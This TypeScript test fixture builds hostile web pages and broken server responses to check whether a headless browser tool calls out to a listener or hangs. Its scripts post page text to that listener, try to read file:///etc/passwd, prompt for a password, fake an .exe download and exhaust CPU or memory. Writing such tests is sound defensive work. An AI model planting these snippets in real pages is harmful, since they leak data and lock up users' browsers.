import type { ServerResponse } from 'node:http';
import type { Answer } from './served-pages.ts';

/** A page that does what no page should. */
export interface HostilePage {
  answer: Answer;
  /** Whether it asks another origin for something, which is to be told of it. */
  callsOut: boolean;
}

/** Where pages try to get to: servers that note who comes. Hosts with a port. */
export interface Listeners {
  http: string;
  udp: string;
}

/** A good page around something bad. */
function pageWith(body: string, head = ''): string {
  return `<!doctype html><html lang="zh-TW"><head><meta charset="utf-8"><title>用電申請－測試所</title>${head}</head><body><main><h1>用電申請</h1><p>請帶身分證到櫃檯。</p>${body}</main></body></html>`;
}

const script = (code: string): string => `<script>${code}</script>`;

/** Elements, styles and scripts that ask `u`, another origin, for something as soon as they are there. */
const asksByMarkup = (u: string): Record<string, string> => ({
  image: `<img alt="圖" src="${u}">`,
  'image set': `<img alt="圖" srcset="${u} 2x, ${u}b 1x">`,
  picture: `<picture><source srcset="${u}"><img alt="圖" src="/dot.gif"></picture>`,
  poster: `<video controls poster="${u}"></video>`,
  video: `<video controls autoplay src="${u}"></video>`,
  audio: `<audio controls autoplay src="${u}"></audio>`,
  track: `<video controls autoplay muted><track default src="${u}"></video>`,
  object: `<object data="${u}" aria-label="物件"></object>`,
  embed: `<embed src="${u}" title="嵌入">`,
  frame: `<iframe title="框" src="${u}"></iframe>`,
  'frame in a frame': `<iframe title="框" srcdoc="<iframe title=框 src='${u}'></iframe>"></iframe>`,
  'image in a frame': `<iframe title="框" srcdoc="<img alt=圖 src='${u}'>"></iframe>`,
  'image button': `<form><input type="image" alt="送出" src="${u}"></form>`,
  'drawn image': `<svg role="img" aria-label="圖" width="9" height="9"><image href="${u}" width="9" height="9"/></svg>`,
  'drawn use': `<svg role="img" aria-label="圖"><use href="${u}#a"/></svg>`,
  'drawn filter': `<svg role="img" aria-label="圖"><filter id="f"><feImage href="${u}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
  'style sheet': `<link rel="stylesheet" href="${u}">`,
  icon: `<link rel="icon" href="${u}">`,
  preload: `<link rel="preload" as="image" href="${u}">`,
  'module preload': `<link rel="modulepreload" href="${u}">`,
  prefetch: `<link rel="prefetch" href="${u}">`,
  prerender: `<link rel="prerender" href="${u}">`,
  preconnect: `<link rel="preconnect" href="${u}">`,
  'name prefetch': `<link rel="dns-prefetch" href="${u}">`,
  manifest: `<link rel="manifest" href="${u}">`,
  import: `<style>@import "${u}";</style>`,
  background: `<div style="background:url(${u});width:9px;height:9px"></div>`,
  mask: `<div style="mask:url(${u}#m);width:9px;height:9px"></div>`,
  cursor: `<style>* { cursor: url(${u}), auto }</style>`,
  content: `<style>p::before { content: url(${u}) }</style>`,
  'list mark': `<ul style="list-style-image:url(${u})"><li>項</li></ul>`,
  font: `<style>@font-face { font-family: F; src: url(${u}) } p { font-family: F }</style>`,
  script: `<script src="${u}"></script>`,
  module: `<script type="module" src="${u}"></script>`,
  'imported module': script(`import("${u}").catch(() => {})`),
  base: `<base href="${u}/"><img alt="圖" src="a.gif">`,
  'speculation, prefetched': `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${u}"]}]}</script>`,
  'speculation, prerendered': `<script type="speculationrules">{"prerender":[{"source":"list","urls":["${u}"]}]}</script>`,
  'refresh elsewhere': `<meta http-equiv="refresh" content="0;url=${u}">`,
  'form sent': `<form id="f" action="${u}"></form>${script('f.submit()')}`,
  'form posted': `<form id="f" method="post" action="${u}"></form>${script('f.submit()')}`,
  'form in a new window': `<form id="f" target="_blank" action="${u}"></form>${script('f.submit()')}`,
  'link followed': `<a id="a" href="${u}">說明</a>${script('a.click()')}`,
  'link in a new window': `<a id="a" target="_blank" href="${u}">說明</a>${script('a.click()')}`,
  'link with a ping': `<a id="a" href="#x" ping="${u}">說明</a>${script('a.click()')}`,
  'jump list': `<label>跳到 <select id="s" onchange="window.open(this.value)"><option value="">選</option><option value="${u}">本部</option></select></label>${script('s.selectedIndex = 1; s.onchange()')}`,
  download: `<a id="a" download href="${u}">下載</a>${script('a.click()')}`,
});

/** Scripts that ask `u`, another origin, or its sockets `w`, for something. */
const asksByScript = (u: string, w: string, { udp }: Listeners): Record<string, string> => ({
  fetch: `fetch("${u}").catch(() => {})`,
  'fetch without rules': `fetch("${u}", { mode: "no-cors", method: "POST", body: document.body.innerText }).catch(() => {})`,
  request: `const r = new XMLHttpRequest(); r.open("GET", "${u}"); r.send()`,
  'request that waits': `try { const r = new XMLHttpRequest(); r.open("GET", "${u}", false); r.send() } catch {}`,
  beacon: `navigator.sendBeacon("${u}", "x")`,
  'event source': `new EventSource("${u}")`,
  socket: `new WebSocket("${w}")`,
  'image made': `new Image().src = "${u}"`,
  'sound made': `new Audio("${u}").load()`,
  'window opened': `open("${u}")`,
  'window opened and written': `const o = open(""); o?.document.write("<img src='${u}'>")`,
  'place set': `location.href = "${u}"`,
  'place replaced': `location.replace("${u}")`,
  'place set later': `setTimeout(() => { location.href = "${u}" }, 50)`,
  'frame made': `const f = document.createElement("iframe"); f.title = "框"; f.src = "${u}"; document.body.append(f)`,
  'written later': `addEventListener("load", () => { document.body.insertAdjacentHTML("beforeend", "<img alt='圖' src='${u}'>") })`,
  'worker that fetches': `new Worker(URL.createObjectURL(new Blob(['fetch("${u}", { mode: "no-cors" }).catch(() => {})'])))`,
  'worker with a socket': `new Worker(URL.createObjectURL(new Blob(['new WebSocket("${w}")'])))`,
  'worker that imports': `new Worker(URL.createObjectURL(new Blob(['importScripts("${u}")'])))`,
  'shared worker': `new SharedWorker(URL.createObjectURL(new Blob(['fetch("${u}", { mode: "no-cors" }).catch(() => {})'])))`,
  transport: `try { new WebTransport("${u.replace(/^http:/, 'https:')}").ready.catch(() => {}) } catch {}`,
  'peer connection': `const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:${udp}" }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o))`,
  'beacon on leaving': `addEventListener("pagehide", () => { navigator.sendBeacon("${u}", "x") })`,
  'beacon on unloading': `addEventListener("unload", () => { navigator.sendBeacon("${u}", "x") })`,
  'fetch on hiding': `document.addEventListener("visibilitychange", () => { fetch("${u}", { mode: "no-cors", keepalive: true }) })`,
  'image on leaving': `addEventListener("beforeunload", (e) => { new Image().src = "${u}"; e.preventDefault() })`,
});

/** Those of the above that a browser without a window does not carry out, or does without naming an address. */
const notCarriedOut = new Set([
  'prerender',
  'name prefetch',
  'preconnect',
  'manifest',
  'track',
  'icon',
  'drawn use',
  'transport',
  'peer connection',
  'window opened and written',
]);

/** Scripts that keep a browser busy, eat its memory, ask its reader, or leave. */
const misdeeds: Record<string, string> = {
  'loop at once': 'for (;;);',
  'loop after load': 'addEventListener("load", () => { for (;;); })',
  'loop much later': 'setTimeout(() => { for (;;); }, 700)',
  'promises without end': 'const f = () => Promise.resolve().then(f); f()',
  'frames without end':
    'const f = () => { const t = performance.now(); while (performance.now() - t < 200); requestAnimationFrame(f) }; f()',
  'growing page':
    'setInterval(() => { for (let i = 0; i < 2000; i += 1) document.body.append(document.createElement("p")) }, 5)',
  'growing text': 'setInterval(() => { document.body.append("文".repeat(100000)) }, 5)',
  memory:
    'const a = []; setInterval(() => { for (let i = 0; i < 20; i += 1) a.push(new Uint8Array(8e6).fill(1)) }, 5)',
  'calls itself': 'const f = () => { f() }; try { f() } catch {}',
  'slow pattern': '/^(a+)+$/.test("a".repeat(40) + "b")',
  'observed changes':
    'new MutationObserver(() => { document.body.append("文") }).observe(document.body, { childList: true }); document.body.append("始")',
  'worker loops': 'for (let i = 0; i < 8; i += 1) new Worker(URL.createObjectURL(new Blob(["for(;;);"])))',
  'frames in frames':
    'const f = document.createElement("iframe"); f.title = "框"; f.src = location.href; document.body.append(f)',
  'many frames':
    'for (let i = 0; i < 300; i += 1) { const f = document.createElement("iframe"); f.title = "框"; f.srcdoc = "<p>一"; document.body.append(f) }',
  'writes without end':
    'addEventListener("load", () => { setInterval(() => { document.write("<p>文") }, 1) })',
  reloads: 'location.reload()',
  'reloads later': 'setTimeout(() => { location.reload() }, 100)',
  'hash after hash': 'let i = 0; setInterval(() => { location.hash = String(i += 1) }, 1)',
  'pushed states': 'try { for (let i = 0; i < 500; i += 1) history.pushState({}, "", "?" + i) } catch {}',
  'goes back': 'history.back()',
  prints: 'print()',
  'prints without end': 'setInterval(() => { print() }, 10)',
  prompts: 'prompt("密碼？")',
  'asks without end': 'for (;;) confirm("要嗎？")',
  'does not let go': 'addEventListener("beforeunload", (e) => { e.preventDefault(); e.returnValue = "x" })',
  'loops on leaving': 'addEventListener("pagehide", () => { for (;;); })',
  'opens itself': 'open(location.href)',
  'opens many': 'for (let i = 0; i < 20; i += 1) open("about:blank")',
  'closes itself': 'close()',
  'stops the load': 'stop()',
  'downloads a text':
    'const a = document.createElement("a"); a.download = "x.exe"; a.href = URL.createObjectURL(new Blob(["x"])); a.click()',
  'asks for everything':
    'Notification.requestPermission(); navigator.geolocation.getCurrentPosition(() => {}); navigator.mediaDevices?.getUserMedia({ audio: true }).catch(() => {}); document.documentElement.requestFullscreen().catch(() => {})',
  'service worker': 'navigator.serviceWorker?.register("/worker.js").catch(() => {})',
  'fills the storage':
    'try { for (let i = 0; ; i += 1) localStorage.setItem(String(i), "文".repeat(1e5)) } catch {}',
  'reads the disk': 'fetch("file:///etc/passwd").catch(() => {}); open("file:///etc/passwd")',
  'other protocols':
    'for (const u of ["tel:1911", "mailto:a", "vbscript:x", "ms-word:x", "view-source:http://x/"]) try { location.href = u } catch {}',
  'removes itself': 'document.documentElement.remove()',
  'replaces itself': 'document.open(); document.write("<p>沒了"); document.close()',
  'strange elements':
    'for (const n of ["a-b", "x-y"]) customElements.define(n, class extends HTMLElement { connectedCallback() { this.attachShadow({ mode: "open" }).innerHTML = "<slot></slot><p>影" } }); document.body.innerHTML += "<a-b><x-y>文</x-y></a-b>"',
  'closed shadows': 'document.body.attachShadow({ mode: "closed" }).innerHTML = "<p>影"',
  'shadows in shadows':
    'let e = document.body; for (let i = 0; i < 400; i += 1) { const c = document.createElement("div"); e.append(c); e = c.attachShadow({ mode: "open" }) }',
  'throws always': 'setInterval(() => { throw new Error("x") }, 1)',
  'logs always': 'setInterval(() => { console.log("文".repeat(10000)) }, 1)',
};

/** Built-ins that a page may put something else in the place of. */
const overrides: readonly string[] = [
  'JSON.stringify = () => "{}"',
  'JSON.stringify = () => { throw new Error("x") }',
  'JSON.parse = () => null',
  'Array.prototype.map = () => []',
  'Array.prototype.push = () => 0',
  'Array.prototype[Symbol.iterator] = null',
  'Array.from = () => { throw new Error("x") }',
  'Object.defineProperty(Object.prototype, "then", { get() { return (f) => f() } })',
  'Object.defineProperty(Object.prototype, "page", { get() { throw new Error("x") } })',
  'Object.keys = () => []',
  'window.Map = window.WeakMap = window.Set = undefined',
  'window.Promise = function () {}',
  'Promise.prototype.then = () => {}',
  'String.prototype.slice = () => ""',
  'RegExp.prototype.exec = () => null',
  'Function.prototype.call = () => {}',
  'Error.prepareStackTrace = () => { for (;;); }',
  'window.getComputedStyle = () => ({})',
  'Document.prototype.querySelectorAll = () => []',
  'Document.prototype.createElement = () => null',
  'Element.prototype.getBoundingClientRect = () => { throw new Error("x") }',
  'Element.prototype.matches = () => true',
  'Element.prototype.getAttribute = () => { throw new Error("x") }',
  'Object.defineProperty(Node.prototype, "childNodes", { get() { throw new Error("x") } })',
  'Object.defineProperty(Node.prototype, "parentElement", { get() { return this } })',
  'Object.defineProperty(document, "documentElement", { get: () => null })',
  'Object.defineProperty(window, "axe", { value: {}, configurable: false })',
  'performance.now = () => NaN',
  'window.setTimeout = () => 0',
  'window.requestAnimationFrame = () => 0',
  'EventTarget.prototype.addEventListener = () => { throw new Error("x") }',
];

/** Addresses that are none, or that name nothing; each stands in every attribute that holds an address. */
const badAddresses = [
  '%',
  '%zz',
  '%B9q',
  '%00',
  '/100%.png',
  'http://',
  'http://[',
  '//',
  ':',
  'x:%',
  'javascript:void 0',
  'data:,%',
  '\u0000',
  '\ud800',
  'http://a:99999/',
  'http://%zz/',
  '\\\\a\\b',
  '#%',
] as const;

function everyAddress(a: string): string {
  return `<a href="${a}">甲</a><img alt="乙" src="${a}" srcset="${a} 2x" usemap="${a}"><form action="${a}"><button formaction="${a}">送出</button></form><video controls poster="${a}" src="${a}"></video><object data="${a}" aria-label="丙"></object><iframe title="丁" src="${a}"></iframe><svg role="img" aria-label="戊"><use href="${a}" xlink:href="${a}"/></svg><q cite="${a}">引</q><map name="m"><area alt="己" href="${a}"></map><label for="${a}">庚</label><input id="${a}" aria-describedby="${a}"><link rel="icon" href="${a}"><a href="#${a}" ping="${a}">辛</a>`;
}

type Send = (response: ServerResponse) => void;

/** Answers that break off, lie about themselves or lead away to `u`. */
const answersBadly = (u: string): Record<string, Send> => ({
  'breaks off': (r) => {
    r.writeHead(200, { 'Content-Type': 'text/html', 'Content-Length': '99999' });
    r.write(pageWith(''));
    setTimeout(() => r.destroy(), 100);
  },
  'breaks off at once': (r) => r.destroy(),
  'breaks off in a chunk': (r) => {
    r.writeHead(200, { 'Content-Type': 'text/html' });
    r.write('<!doctype html><title>半');
    setTimeout(() => r.destroy(), 100);
  },
  'never answers': () => undefined,
  'never ends': (r) => {
    r.writeHead(200, { 'Content-Type': 'text/html' });
    r.write(pageWith('<p>還有'));
  },
  drips: (r) => {
    r.writeHead(200, { 'Content-Type': 'text/html' });
    const drop = setInterval(() => r.write('<p>滴</p>'), 50);
    r.on('close', () => {
      clearInterval(drop);
    });
  },
  'is empty': (r) => r.writeHead(200, { 'Content-Type': 'text/html' }).end(),
  'has no content': (r) => r.writeHead(204).end(),
  'has not changed': (r) => r.writeHead(304).end(),
  'asks for a password': (r) => r.writeHead(401, { 'WWW-Authenticate': 'Basic realm="x"' }).end('no'),
  'is a download': (r) =>
    r.writeHead(200, { 'Content-Type': 'text/html', 'Content-Disposition': 'attachment' }).end(pageWith('')),
  'is of no type': (r) => r.writeHead(200, { 'Content-Type': 'application/x-nothing' }).end('x'),
  'is another character set': (r) =>
    r.writeHead(200, { 'Content-Type': 'text/html; charset=big5' }).end(pageWith('')),
  'is not compressed': (r) =>
    r.writeHead(200, { 'Content-Type': 'text/html', 'Content-Encoding': 'gzip' }).end(pageWith('')),
  'is broken XML': (r) => r.writeHead(200, { 'Content-Type': 'application/xhtml+xml' }).end('<html><p>'),
  'leads to a circle': (r) => r.writeHead(302, { Location: '?' }).end(),
  'refreshes itself': (r) =>
    r.writeHead(200, { 'Content-Type': 'text/html', Refresh: '0' }).end(pageWith('')),
  'refreshes elsewhere': (r) =>
    r.writeHead(200, { 'Content-Type': 'text/html', Refresh: `0;url=${u}` }).end(pageWith('')),
  'reports elsewhere': (r) =>
    r
      .writeHead(200, {
        'Content-Type': 'text/html',
        'Content-Security-Policy': `img-src 'none'; report-uri ${u}`,
        'Reporting-Endpoints': `x="${u}"`,
        Link: `<${u}>; rel=preload; as=style`,
      })
      .end(pageWith('<img alt="圖" src="/dot.gif">')),
  ...Object.fromEntries(
    [301, 302, 303, 307, 308].map((status) => [
      `leads elsewhere with ${String(status)}`,
      (r: ServerResponse) => r.writeHead(status, { Location: u }).end(),
    ]),
  ),
});

/** Elements without number or end. */
const heaps: Record<string, string> = {
  'links by the thousand': '<a href="/a/">甲</a> '.repeat(20_000),
  'elements by the hundred thousand': '<b>文</b>'.repeat(400_000),
  'elements in elements': `${'<div>'.repeat(20_000)}深`,
  'one long word': `<p>${'a'.repeat(2_000_000)}</p>`,
  'attributes by the thousand': `<p ${Array.from({ length: 5000 }, (_, i) => `data-a${String(i)}="x"`).join(' ')}>文</p>`,
  'a long attribute': `<p title="${'文'.repeat(1_000_000)}">文</p>`,
  'ids by the thousand': Array.from({ length: 5000 }, () => '<p id="a">文</p>').join(''),
  'refreshes to itself': '<meta http-equiv="refresh" content="0">',
};

/** All pages, by name. `listeners` are what pages that call out try to reach. */
export function hostilePages(listeners: Listeners): Record<string, HostilePage> {
  const u = `http://${listeners.http}/caught`;
  const w = `ws://${listeners.http}/caught`;
  const quiet = (answer: Answer): HostilePage => ({ answer, callsOut: false });
  const asks = (name: string, answer: string): HostilePage => ({
    answer,
    callsOut: !notCarriedOut.has(name),
  });
  const named = <Value>(
    group: string,
    table: Readonly<Record<string, Value>>,
    make: (value: Value, name: string) => HostilePage,
  ): [string, HostilePage][] =>
    Object.entries(table).map(([name, value]) => [`${group}: ${name}`, make(value, name)]);
  return Object.fromEntries([
    ...named('markup', asksByMarkup(u), (markup, name) => asks(name, pageWith(markup))),
    ...named('script', asksByScript(u, w, listeners), (code, name) => asks(name, pageWith(script(code)))),
    ...named('misdeed', misdeeds, (code) => quiet(pageWith(script(code)))),
    ...overrides.map((code) => [`override: ${code}`, quiet(pageWith(script(code)))] as const),
    ...badAddresses.map((a) => [`address: ${JSON.stringify(a)}`, quiet(pageWith(everyAddress(a)))] as const),
    ...named('answer', answersBadly(u), (answer) => quiet(answer)),
    ...named('heap', heaps, (markup) => quiet(pageWith(markup))),
  ]);
}
